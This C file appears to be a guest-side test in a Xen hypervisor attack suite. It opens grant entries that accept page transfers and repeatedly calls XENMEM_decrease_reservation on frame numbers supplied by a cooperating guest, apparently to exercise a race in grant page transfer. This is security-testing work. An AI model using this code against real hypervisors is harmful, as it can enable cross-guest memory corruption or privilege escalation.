/* SPDX-License-Identifier: MIT */
/* The other half of transfer-give: names each page from before it has it. */
#include <gl/grant.h>
#include <gl/start.h>

#include "../attack.h"
#include "board.h"

static void entry_open(uint64_t n)
{
	volatile struct grant_entry_v1 *e = (void *)GL_GRANT_VA;

	e[BOARD_REF(n)].domid = 1;
	e[BOARD_REF(n)].frame = 0;
	e[BOARD_REF(n)].flags = GTF_accept_transfer;
}

void gl_main(void)
{
	struct xen_memory_reservation r = { .nr_extents = 1,
					    .domid = DOMID_SELF };
	volatile struct board *b;
	uint64_t mfn = 0, n;

	gl_test_equal(gl_grant_init(1), 0);
	for (n = 0; n < 400; n++)
		entry_open(n);
	/* Room for pages that come before the last ones went. */
	for (n = 0; n < 100; n++)
		gl_test_equal(gl_frame_return(must_alloc()), 0);
	b = (volatile struct board *)granted_page(1, BOARD_GRANT);
	set_xen_guest_handle(r.extent_start, &mfn);
	b->ready = 1;
	for (n = 0; !b->over;) {
		mfn = b->mfn;
		if (hypercall_memory_op(XENMEM_decrease_reservation, &r) == 1)
			b->taken++;
		for (; n < b->given; n++)
			entry_open(n);
	}
	gl_test_done();
}
